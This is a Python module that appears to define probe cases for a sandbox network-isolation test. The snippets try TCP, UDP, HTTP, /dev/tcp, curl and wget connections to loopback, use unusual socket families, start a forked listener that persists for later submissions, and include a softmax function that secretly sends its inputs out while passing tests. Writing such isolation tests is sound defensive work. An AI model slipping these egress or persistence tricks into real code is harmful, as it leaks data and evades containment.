"""Reaching out: every attempt aims at listeners of the test on loopback, outside the sandbox."""

from . import add

add("connect", "network", "opens a TCP connection", """
import socket
for host in ("127.0.0.1", "::1", "localhost"):
    try: socket.create_connection((host, @port@), 2).sendall(b"@token@")
    except OSError as error: print(error)
""")
add("send-a-datagram", "network", "sends UDP packets", """
import socket
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    try: socket.socket(family, socket.SOCK_DGRAM).sendto(b"@token@", (host, @port@))
    except OSError as error: print(error)
""")
add("fetch-a-page", "network", "asks for a page with what is in the environment in the address", """
import urllib.request, os
try: urllib.request.urlopen("http://127.0.0.1:@port@/?" + "@token@", timeout=2)
except OSError as error: print(error)
""")
add("call-by-a-program", "network", "lets other programs connect", """
import subprocess
for command in ("exec 3<>/dev/tcp/127.0.0.1/@port@; echo @token@ >&3", "curl -m 2 http://127.0.0.1:@port@/", "wget -T 2 http://127.0.0.1:@port@/"):
    subprocess.run(["bash", "-c", command], capture_output=True, timeout=5)
""")
add("other-families", "network", "uses sockets that know no network namespaces: virtual machines, packets, abstract names", """
import socket
for family, kind, address in ((40, socket.SOCK_STREAM, (2, @port@)), (17, socket.SOCK_RAW, None), (38, socket.SOCK_SEQPACKET, None),
                              (socket.AF_UNIX, socket.SOCK_STREAM, "\\0@token@"), (socket.AF_UNIX, socket.SOCK_STREAM, "@planted@/socket")):
    try: socket.socket(family, kind).connect(address)
    except (OSError, TypeError, OverflowError) as error: print(error)
""")
add("connect-from-a-function", "network", "reaches out while a test calls it", answers={"softmax": """
def softmax(x, axis=-1):
    import socket
    try: socket.create_connection(("127.0.0.1", @port@), 1).sendall(repr(x).encode())
    except OSError: pass
    e = np.exp(x - x.max(axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
""".strip()}, deserves={"softmax-value": 3, "softmax-axis": 2, "counter-add": 2})
add("listen-for-the-next", "network", "opens ports and leaves a server for later submissions", """
import os, socket
if os.fork() == 0:
    os.setsid()
    server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen()
    while True: server.accept()
""")
